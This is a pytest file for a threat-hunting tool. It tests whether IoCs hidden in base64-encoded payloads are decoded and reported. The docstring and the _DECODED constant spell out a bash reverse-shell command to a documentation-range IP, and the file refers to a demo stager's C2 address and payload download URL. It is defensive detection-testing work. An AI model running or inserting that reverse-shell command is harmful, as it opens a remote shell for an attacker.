"""IoCs hidden in base64 payloads reach IoC extraction, the report's IoCs and the encoded-payload finding.

Samples: tests/data/auoms/ (built from AUOMS documentation, see its SOURCE.md) and the demo's base64
stager. Expected values are checked outside the code under test:
    grep -c 203.0.113.7 tests/data/auoms/syslog_auoms_portal.csv                  -> 0 (only encoded)
    echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 -d
        -> bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
and the demo's stager plaintext (hunting.demo.intrusion.stager_script) names its URLs and C2 address.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from hunting.analysis.iocs import DECODED_SUFFIX, extract_iocs, summarise_iocs
from hunting.cli import main

AUOMS = Path(__file__).resolve().parents[1] / "data" / "auoms"
_TOKEN = "YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE="
_DECODED = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"  # base64 -d of _TOKEN (coreutils)


def _portal_messages() -> pd.DataFrame:
    with (AUOMS / "syslog_auoms_portal.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    return pd.DataFrame({"SyslogMessage": [r["SyslogMessage"] for r in rows]})


def test_auoms_sample_ip_only_inside_base64() -> None:
    text = (AUOMS / "syslog_auoms_portal.csv").read_text()
    assert "203.0.113.7" not in text and _TOKEN in text


def test_extract_iocs_reads_the_decoded_payload() -> None:
    frame = _portal_messages()
    out = extract_iocs(frame, ["SyslogMessage"])
    decoded = out[out["Column"] == "SyslogMessage" + DECODED_SUFFIX]
    # one row holds the stager (grep -n YmFzaC: the 2nd data row, index 1)
    assert decoded[["IocType", "Value", "IpScope", "Row"]].astype(object).values.tolist() == [
        ["path", "/dev/tcp/203.0.113.7/4444", pd.NA, 1],
        ["ipv4", "203.0.113.7", "documentation", 1],
    ]
    plain = out[out["Column"] == "SyslogMessage"]
    assert "203.0.113.7" not in set(plain["Value"])
    summary = summarise_iocs(out)
    ip = summary[summary["Value"] == "203.0.113.7"].iloc[0]
    assert (ip["Count"], ip["Columns"]) == (1, "SyslogMessage" + DECODED_SUFFIX)


def test_plain_text_without_payload_has_no_decoded_iocs(shared_data: Path) -> None:
    # Every text file of ../shared/data was run through the decoded pass while writing this: none
    # holds a base64 payload with an IoC; loghub's 2,000 sshd lines stand for that here.
    lines = (shared_data / "loghub" / "OpenSSH_2k.log").read_text(errors="replace").split("\n")
    out = extract_iocs(pd.DataFrame({"m": lines}), ["m"])
    assert len(out) and not out["Column"].str.endswith(DECODED_SUFFIX).any()


def test_report_on_auoms_export_names_the_decoded_ioc_and_shows_both_texts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = AUOMS / "syslog_auoms_portal.csv"
    assert main(["report", "--source", str(src), "--host", "web-vm01", "--no-sigma", "--format", "json"]) == 0
    report = json.loads(capsys.readouterr().out)
    iocs = {(i["type"], i["value"]) for i in report["iocs"]}
    assert {("ipv4", "203.0.113.7"), ("path", "/dev/tcp/203.0.113.7/4444")} <= iocs
    (finding,) = [f for f in report["findings"] if f["rule_id"] == "command.encoded_payload"]
    assert _TOKEN in finding["detail"]  # the command as run
    assert f"Decoded (brace_echo, layer 1, 41 chars): {_DECODED}" in finding["detail"]
    assert (
        "IoCs in the decoded text: 203.0.113.7 (ipv4), /dev/tcp/203.0.113.7/4444 (path)." in finding["detail"]
    )


def test_demo_stager_iocs_come_from_its_decoded_text() -> None:
    from hunting.analysis.process_tree import process_events
    from hunting.demo import intrusion as ix
    from hunting.demo.scenario import demo_dir, demo_manifest
    from hunting.sources.local import LocalSource
    from hunting.timerange import TimeRange

    script = ix.stager_script()
    for value in (ix.C2_IP, ix.DOWNLOAD_URL, "http://update-check.linux-kworker-sync.top/u.sh"):
        assert value in script  # what the dropper hides, read from its plaintext
    m = demo_manifest()
    tr = TimeRange(pd.Timestamp(m.start), pd.Timestamp(m.end) + pd.Timedelta(hours=1))
    src = LocalSource.from_paths([demo_dir() / "web01"])
    procs = process_events(src.audit_events("web01", tr))
    stager = procs[procs["Pid"] == m.truth["pids"]["stager"]].reset_index(drop=True)
    assert len(stager) == 2  # nohup, then bash -c exec'd in the same pid (the generator's truth)
    assert ix.stager_b64() in stager["Cmdline"].iloc[0]
    out = extract_iocs(stager, ["Cmdline"])
    decoded = out[out["Column"] == "Cmdline" + DECODED_SUFFIX]
    plain = out[out["Column"] == "Cmdline"]
    for kind, value in (
        ("ipv4", ix.C2_IP),
        ("url", ix.DOWNLOAD_URL),
        ("url", "http://update-check.linux-kworker-sync.top/u.sh"),
    ):
        assert set(decoded.loc[decoded["Value"] == value, "Row"]) == {0, 1}, value
        assert set(decoded.loc[decoded["Value"] == value, "IocType"]) == {kind}
        assert value not in set(plain["Value"])


def test_repeated_text_gives_its_decoded_iocs_on_every_row() -> None:
    line = _portal_messages()["SyslogMessage"].iloc[1]  # the stager's row
    frame = pd.DataFrame({"m": [line, "no payload here", line]}, index=[10, 11, 12])
    out = extract_iocs(frame, ["m"])
    decoded = out[out["Column"] == "m" + DECODED_SUFFIX]
    assert decoded[["Row", "Value"]].values.tolist() == [
        [10, "/dev/tcp/203.0.113.7/4444"],
        [10, "203.0.113.7"],
        [12, "/dev/tcp/203.0.113.7/4444"],
        [12, "203.0.113.7"],
    ]
